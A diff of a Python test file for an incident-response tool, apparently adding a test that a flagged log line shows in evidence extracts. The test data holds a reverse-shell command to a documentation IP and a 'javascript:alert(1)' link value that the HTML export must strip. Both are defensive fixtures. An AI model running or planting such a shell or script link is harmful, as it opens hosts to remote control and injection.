@@ -10,7 +10,7 @@ from responder import report
 from responder.evidence import Evidence, Missing
 from responder.export import html
 from responder.extracts import MOST, Extract, extracts
-from responder.record import Decision, Guard
+from responder.record import Decision, Guard, Signal, Triage
 from responder.terminal import print_record
 from tests.builders import EVENT_TIME, a_record
 from tests.export.shared import audit, log
@@ -28,6 +28,15 @@ def test_a_log_tells_its_lines_nearest_to_the_event_and_how_many_there_are() -> 
     assert html.page(record).count(f'href="{LINK}"') == 2
     unsafe = record.model_copy(update={"links": {"logs_pod": "javascript:alert(1)"}})
     assert 'href="' not in html.page(unsafe)
+
+
+def test_the_line_that_a_sign_rests_on_is_shown_however_far_from_the_event_it_is() -> None:
+    texts = [*(f"line {n}" for n in range(40)), "bash -i >& /dev/tcp/198.51.100.7/4444"]
+    at = ("/evidence/pod_log/value/entries/40",)
+    sign = Signal(id="L3", title="a shell", weight=35, source="logs", evidence=at, outside=True)
+    triage = Triage(verdict="malicious", summary="", signals=(sign,))
+    pod = extracts(a_record(evidence=Evidence(pod_log=log(*texts)), triage=triage))[0]
+    assert [text for _, text in pod.lines] == [f"ERROR {text}" for text in (*texts[: MOST - 1], texts[-1])]
 
 
 def test_a_session_says_who_came_from_where_and_ran_what() -> None:
